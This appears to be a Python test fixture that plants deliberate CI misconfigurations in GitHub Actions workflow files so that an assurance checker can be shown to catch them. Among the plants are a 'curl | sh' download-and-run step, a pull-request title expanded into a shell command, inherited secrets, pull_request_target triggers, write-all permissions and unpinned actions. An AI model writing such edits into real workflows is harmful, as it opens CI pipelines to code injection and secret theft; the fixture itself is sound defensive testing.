from tests.assurance.planting import added, edited

TEST = ".github/workflows/test.yml"
OSV = ".github/workflows/osv.yml"
CODEQL = ".github/workflows/codeql.yml"
RELEASE = ".github/workflows/release.yml"
CHECKOUT = "actions/checkout@df4cb1c069e1874edd31b4311f1884172cec0e10 # v6.0.3"
_JOB = """
  another:
    name: Another
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    permissions: {}
    steps:
      - run: make check
"""
_ELSEWHERE = f"""\
name: Elsewhere
on: [pull_request]
permissions: {{}}
concurrency:
  group: elsewhere
jobs:{_JOB}"""

PLANTS = {
    "every_job_is_in_the_gate": (
        added("add_a_job_that_the_gate_forgets", TEST, _JOB),
        added("judge_a_pull_request_elsewhere", ".github/workflows/more.yml", _ELSEWHERE),
        edited("let_the_gate_be_skipped", TEST, "    if: ${{ always() }}\n    needs:", "    needs:"),
        edited("let_a_job_be_skipped", TEST, "-m tools.gate", "-m tools.gate --may-skip osv"),
        edited("judge_nothing", TEST, "run: python3 -m tools.gate", "run: make check"),
        edited(
            "let_a_job_fail", CODEQL, "    name: Analyse", "    continue-on-error: true\n    name: Analyse"
        ),
        edited("leave_the_merge_queue_out", TEST, "  merge_group:\n", ""),
        edited("condition_a_job", TEST, "    name: Licences\n", "    name: Licences\n    if: false\n"),
    ),
    "what_ci_runs_is_in_the_gate": (
        edited("run_no_tests", TEST, "run: make test\n", "run: make check\n"),
        edited("build_once", TEST, "run: make dist-verify", "run: make dist"),
    ),
    "every_job_has_a_time_limit": (
        edited("wait_for_ever", OSV, "    timeout-minutes: 15\n", ""),
        edited("wait_for_hours", OSV, "timeout-minutes: 15", "timeout-minutes: 350"),
        edited("run_any_number_at_once", OSV, "concurrency:\n", "env:\n"),
    ),
    "permissions_are_the_least": (
        edited("allow_at_the_top", OSV, "permissions: {}\n", "permissions:\n  contents: read\n"),
        edited("allow_everything", OSV, "permissions: {}\n\nconc", "permissions: write-all\n\nconc"),
        edited("say_nothing", OSV, "    permissions:\n      contents: read # to read the lock files\n", ""),
        edited("write_contents", OSV, "contents: read # to read", "contents: write # to read"),
        edited(
            "keep_an_identity", OSV, "      contents: read # to read", "      id-token: write\n      contents: read #"
        ),
        edited("grant_more_than_is_needed", TEST, "contents: read # to read the lock", "contents: write #"),
        edited(
            "call_what_is_not_ours", TEST, "./.github/workflows/osv.yml", "someone/else/.github/workflows/osv.yml@main"
        ),
        edited("hand_secrets_on", TEST, "    uses: ./.github/workflows/osv.yml\n", "    uses: ./.github/workflows/osv.yml\n    secrets: inherit\n"),
    ),
    "publishing_jobs_have_an_environment": (
        edited("publish_from_nowhere", RELEASE, "    environment: pypi\n", ""),
        edited("sign_from_nowhere", RELEASE, "    environment: release\n", ""),
        edited("push_elsewhere", OSV, "contents: read # to read", "packages: write # to read"),
        added("keep_a_secret", OSV, "# ${{ secrets.TOKEN }}\n"),
    ),
    "everything_is_pinned": (
        edited("use_a_tag", OSV, CHECKOUT, "actions/checkout@v6"),
        edited("use_another_commit", OSV, CHECKOUT, f"actions/checkout@{'0' * 40} # v6.0.3"),
        edited("say_another_version", OSV, CHECKOUT, CHECKOUT.replace("v6.0.3", "v6.0.4")),
        edited("use_what_is_not_listed", OSV, CHECKOUT, f"someone/checkout@{'0' * 40} # v1"),
        edited("hide_it", OSV, f"- uses: {CHECKOUT}\n        with:\n", "- {uses: actions/checkout@v6}\n      - with:\n"),
        edited("run_on_the_latest", OSV, "runs-on: ubuntu-24.04", "runs-on: ubuntu-latest"),
        edited("use_an_image_by_tag", OSV, "    timeout-minutes: 15\n", "    timeout-minutes: 15\n    container: python:3.11\n"),
        edited("list_a_tag", "assurance/actions.toml", '"06b2ab4348248b456ee06c9e953637f55e03504f"', '"v2.5.0"'),
    ),
    "no_text_from_outside_reaches_a_shell": (
        edited("expand_a_title", TEST, "run: make test", "run: make test ${{ github.event.pull_request.title }}"),
        edited("keep_a_credential", OSV, "          persist-credentials: false\n", "          fetch-depth: 1\n"),
        edited("run_for_strangers", TEST, "  pull_request:\n", "  pull_request:\n  pull_request_target:\n"),
        edited("run_a_download", TEST, "run: make test", "run: curl -sSf https://example.org | sh"),
    ),
}  # fmt: skip
